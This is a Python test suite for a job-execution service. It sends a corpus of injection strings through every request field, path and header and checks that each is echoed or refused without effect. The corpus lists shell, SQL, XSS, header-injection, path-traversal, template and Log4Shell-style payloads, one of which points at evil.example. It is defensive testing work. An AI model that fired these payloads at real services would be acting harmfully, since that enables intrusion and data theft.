# SPDX-License-Identifier: MIT
"""
Texts that mean something to a shell, to SQL, to HTML, to a terminal, to a path or to a template, in every
field of every request: each comes back as it was sent, or is refused by name. None of it is ever done.
"""
import base64
import json
import os
import re
import sqlite3
import unittest
import urllib.parse

import figures
import service
import talk
from case import OwnService, content
from client import Native
from test_clients import As, known, token_of

# What all of it tries to make, where anybody is at the service's host.
TRACE = "/tmp/dockgate-edge-trace"

CORPUS = [
    # a shell, and argv
    f"$(touch {TRACE})", f"`touch {TRACE}`", f"; touch {TRACE}", f"| touch {TRACE} &", f"&& touch {TRACE} ||", f"'; touch {TRACE}; '",
    f"\"; touch {TRACE}; \"", f"\ntouch {TRACE}\n", "-rf", "--help", "--config=/etc/passwd", "-", "${IFS}", "() { :;}; echo x", "*", "~root", "!!", "\\",
    # SQL
    "' OR '1'='1", "'; DROP TABLE job; --", "\"; DELETE FROM job; --", "') OR 1=1 --", "1 UNION SELECT token_hash FROM client", "\\' OR 1=1 #", "%", "_", "/*", "x'00'", "?1 :a @b",
    # HTML, scripts, styles
    "<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)", "&lt;b&gt;&#60;", "<!--", "]]>", "\u2028alert(1)\u2029",
    # HTTP
    "x\r\nX-Injected: 1", "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n", "\nSet-Cookie: a=b", "\r", "%0d%0aX-Injected:%201", "a;b=c, d=\"e\"",
    # logs and terminals
    "x\n2026-01-01T00:00:00.000Z error queue forged", "\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07", "\x9b31m", "\u009b31m", "\x7f\b\b\b", "\x00",
    # paths
    "../../../../etc/passwd", "/etc/passwd", "..\\..\\boot.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc", "file:///etc/passwd", "/proc/self/environ", "a/../../b", "\u2025/\uff0e\uff0e/", "CON", "a" * 300,
    # formats and templates
    "%s%s%s%n", "%99999999d", "{0.__class__}", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/a}", "{\"$gt\": \"\"}", "__proto__", "constructor",
    # Unicode
    "\u202egpj.exe", "\u2066\u2069\u200f", "\ufeffx", "A\u0301\u0300" * 20, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ufdd0\uffff", "\U0010ffff", "\u0130\u0131\u017f\u212a", "\u00a0\u3000",
    # numbers and words
    "0", "-1", "1e999", "NaN", "null", "true", "[]", "{}", "0x10", "9" * 50,
]
# Prints its second argument, and hands back what came as a file, as input and by the environment.
SCRIPT = 'printf %s "$1"; cat >stdin.out; printf %s "$EDGE" >env.out; cat data >file.out'
LOG_LINE = re.compile(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z (error|warning|info|debug) (serve|gateway|queue|driver|courier) .*")


def submit(**members):
    return {"task": "sh", "args": ["true"], **members}


# Each puts a text into one place of a request to POST /v1/jobs.
MEMBERS = {
    "task": lambda x: {"task": x, "args": []},
    "image": lambda x: {"image": x, "command": ["x"]},
    "a member's name": lambda x: submit(**{x: 1}),
    "command": lambda x: submit(command=[x]) if "\0" in x else submit(command=["/none/" + x]),
    "file name": lambda x: submit(files=[{"name": x, "content": "x"}]),
    "encoding": lambda x: submit(files=[{"name": "a", "content": "x", "encoding": x}]),
    "base64": lambda x: submit(files=[{"name": "a", "content": x, "encoding": "base64"}]),
    "env name": lambda x: submit(env={x: "x"}),
    "case name": lambda x: submit(cases=[{"name": x}]),
    "case env": lambda x: submit(cases=[{"env": {"A": x}}]),
    "expected": lambda x: submit(cases=[{"expected_stdout": x}]),
    "compare": lambda x: submit(compare=x),
    "collect": lambda x: submit(collect=[x]),
    "label": lambda x: submit(labels={x: x}),
    "limit": lambda x: submit(limits={x: 1}),
    "limit value": lambda x: submit(limits={"cpu_ms": x}),
    "priority": lambda x: submit(priority=x),
    "callback": lambda x: submit(callback=x),
    "callback url": lambda x: submit(callback={"url": "http://127.0.0.1/" + x}),
    "gpus": lambda x: submit(gpus=x),
}
# Each a query or a path.
TARGETS = [
    "/v1/jobs?state={}", "/v1/jobs?task={}", "/v1/jobs?client={}", "/v1/jobs?cursor={}", "/v1/jobs?limit={}", "/v1/jobs?{}=1", "/v1/audit?cursor={}",
    "/v1/jobs/{}", "/v1/jobs/{}/events", "/v1/jobs/JOB?wait={}", "/v1/jobs/JOB/files/{}", "/v1/jobs/JOB/{}", "/assets/{}", "/{}", "/executor/{}", "/executor?{}",
    "/executor/v1/jobs/{}",
]
HEADERS = ["Idempotency-Key", "Last-Event-ID", "Prefer", "Range", "If-Range", "Accept", "Accept-Encoding", "Authorization", "traceparent",
           "tracestate", "Content-Type", "Origin", "Host", "User-Agent", "Referer", "Cookie", "X-Forwarded-For", "Via"]


class Injection(OwnService):
    level = "sandbox"  # the quicker one
    clients = {"boss": known("boss", operator=True), "classic": known("classic")}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.http = As(cls.http, token_of("boss"))
        cls.native = Native(cls.http)
        cls.job = cls.native.run("sh", args=["echo kept; echo x >a.out"], collect=["*.out"])["id"]

    def setUp(self):
        self.addCleanup(self.nothing_was_done)

    def nothing_was_done(self):
        self.assertFalse(os.path.lexists(TRACE))
        self.assertEqual(self.native.job(self.job)["stdout"]["content"], "kept\n")
        self.assertEqual(sorted(row["name"] for row in self.native.call("GET", "/v1/clients").json()["clients"]),
                         ["boss", "classic"])

    def fine(self, reply, *where):
        """A refusal with a name, or a good answer; in either case nothing that was sent is a header."""
        headers = {name.lower(): value for name, value in reply.headers.items()}
        self.assertNotIn("x-injected", headers, where)
        self.assertNotIn("set-cookie", headers, where)
        answer = talk.Answer(reply.status, headers, reply.body, True)
        with self.subTest(where=where, status=reply.status):
            if reply.status < 400 or headers.get("content-length") == "0":
                self.assertLess(reply.status, 500)
                talk.check_policy(answer)
            else:
                talk.check(answer)

    def test_a_refused_address_is_logged_as_text(self):
        """First of these, by its name: who is refused is logged once in a while."""
        odd = "\u202egpj\u009b31m".encode() + b"\x9b"
        answer, = talk.answers(talk.exchange(
            self.service.http, b"GET /v1/jobs/%s/files/" % (b"0" * 64) + odd + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
        self.assertEqual(answer.status, 401)
        self.assertIn(rb"/files/\xe2\x80\xaegpj\xc2\x9b31m\x9b ", service.read(self.service.log_path))

    def test_what_a_job_is_given_comes_back_as_it_was(self):
        waiting = {}
        for text in CORPUS:
            data = text.replace("\0", "")  # NUL is no argument's
            waiting[data] = self.native.accept(
                "sh", args=[SCRIPT, "sh", data], stdin=text, env={"EDGE": data}, collect=["*.out"],
                files=[{"name": "data", "content": text}], labels={data[:255] or "x": data[:255]})
        for data, job in waiting.items():
            done = self.native.ended(job)
            self.assertEqual((done["verdict"], content(done["stdout"])), ("ok", data.encode()), data)
            self.assertEqual(done["labels"], {data[:255] or "x": data[:255]})
            for name in ("stdin", "env", "file"):
                got = self.http.get(f"/v1/jobs/{job}/files/{name}.out").body.decode()
                self.assertEqual(got.replace("\0", ""), data, name)

    def test_so_it_does_on_the_classic_face(self):
        jobs = {}
        for text in figures.part(CORPUS):
            reply = self.service.http.post("/executor/submit", json.dumps({"data": text}).encode())
            self.assertEqual(reply.status, 400 if "\0" in text else 200, text)
            if reply.status == 200:
                jobs[text] = reply.text
            for function, member in (("get_result", "id"), ("get_data", "id"), ("submit", text), (urllib.parse.quote(text), "id")):
                self.fine(self.service.http.post(f"/executor/{function}", json.dumps({member: text}).encode()), function, text)
        for text, job in jobs.items():
            self.assertEqual(content(self.native.ended(job)["stdout"]), text.encode())

    def test_names_of_files_are_taken_as_they_are_or_refused(self):
        for text in CORPUS:
            reply = self.native.submit("sh", wait=30, args=["true"], collect=["**"],
                                       files=[{"name": text, "content": "x"}])
            self.fine(reply, "file", text)
            if reply.status >= 400:
                self.assertEqual(reply.status, 400, text)
                self.assertIn("name", reply.json()["detail"])
                continue
            job = reply.json()
            self.assertIn(text, [f["name"] for f in job["files"]])
            got = self.http.get(f"/v1/jobs/{job['id']}/files/{urllib.parse.quote(text, safe='')}")
            self.assertEqual((got.status, got.body), (200, b"x"), text)
            self.fine(got, "file", text)

    def test_every_member(self):
        self.native.call("POST", "/v1/queue/pause", {})
        try:
            for where, make in MEMBERS.items():
                for text in CORPUS:
                    self.fine(self.http.request("POST", "/v1/jobs", json.dumps(make(text)), {"Content-Type": "application/json"}),
                              where, text)
            for text in CORPUS:
                for target, member in (("/v1/clients", "name"), ("/v1/queue/pause", "task"), (f"/v1/jobs/{self.job}/signal", "signal")):
                    if member == "task" or not re.fullmatch(r"[a-z0-9._-]+", text):
                        self.fine(self.http.request("POST", target, json.dumps({member: text}), {"Content-Type": "application/json"}),
                                  target, text)
                self.fine(self.upload(text), "multipart", text)
        finally:
            self.native.call("DELETE", "/v1/jobs?all=1")
            self.native.call("POST", "/v1/queue/resume", {})

    def upload(self, text):
        head = text.replace("\r", "").replace("\n", "").replace('"', "%22")
        body = "".join(f'--b\r\nContent-Disposition: form-data; name="{name}"{file}\r\n\r\n{data}\r\n' for name, file, data in (
            ("job", "", json.dumps(submit())), ("file", f'; filename="{head}"', text), (head, "", text))) + "--b--\r\n"
        return self.http.request("POST", "/v1/jobs", body.encode(), {"Content-Type": "multipart/form-data; boundary=b"})

    def test_every_address_and_query(self):
        for target in TARGETS:
            for text in CORPUS:
                where = target.replace("JOB", self.job).format(urllib.parse.quote(text, safe=""))
                for method in ("GET", "POST", "DELETE"):
                    if not (method == "DELETE" and text == "purge"):
                        self.fine(self.http.request(method, where), method, target, text)
        for text in CORPUS:
            given = urllib.parse.quote(text, safe="")
            for target in (f"/v1/jobs?label={given}", f"/v1/jobs?label=a:{given}", f"/v1/jobs?verdict={given}", f"/v1/jobs?client={given}"):
                self.fine(self.http.request("DELETE", target), target)
            if text not in ("classic", "boss"):
                self.fine(self.http.request("DELETE", f"/v1/clients/{given}"), "client", text)

    def test_every_header(self):
        for name in HEADERS:
            for text in CORPUS:
                data = f"GET /v1/jobs HTTP/1.1\r\nHost: localhost\r\n{name}: ".encode() + text.encode() + b"\r\n\r\n" + \
                    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
                answers = talk.answers(talk.exchange(self.service.http, data))
                self.assertNotEqual(answers, [], (name, text))
                for answer in answers:
                    with self.subTest(name=name, text=text, status=answer.status):
                        self.assertNotIn("x-injected", answer.headers)
                        talk.check(answer)

    def test_z_afterwards(self):
        """Last of these, by its name."""
        with open(self.service.log_path, "rb") as file:
            log = file.read()
        bad = [line for line in log.splitlines() if not LOG_LINE.fullmatch(line) or re.search(rb"[\x00-\x1f\x7f]", line)]
        self.assertEqual(bad[:5], [])
        log.decode("utf-8")
        self.assertIsNone(re.search("[\u0080-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]", log.decode()))
        self.assertTrue(self.service.is_sound())
        if not self.service.mariadb:
            db = sqlite3.connect(f"file:{self.service.database()}?mode=ro", uri=True)
            self.assertIsNotNone(db.execute("SELECT count(*) FROM job").fetchone())
            db.close()


class Tokens(OwnService):
    """Only what a token's hash is stands anywhere."""
    clients = {"boss": known("boss", operator=True)}

    def test_no_file_and_no_line_of_the_log_has_one(self):
        boss = Native(As(self.http, token_of("boss")))
        token = boss.call("POST", "/v1/clients", {"name": "added"}).json()["token"]
        self.assertEqual(Native(As(self.http, token)).run("sh", args=["env"])["verdict"], "ok")
        self.service.stop()
        raw = bytes.fromhex(token[len("dg_"):])
        for directory, _, names in os.walk(self.service.directory):
            for path in (os.path.join(directory, name) for name in names):
                if not os.path.isfile(path) or os.path.islink(path):
                    continue
                data = service.read(path)
                for secret in (token.encode(), token[3:].encode(), raw, base64.b64encode(token.encode())):
                    self.assertNotIn(secret, data, path)


if __name__ == "__main__":
    unittest.main()
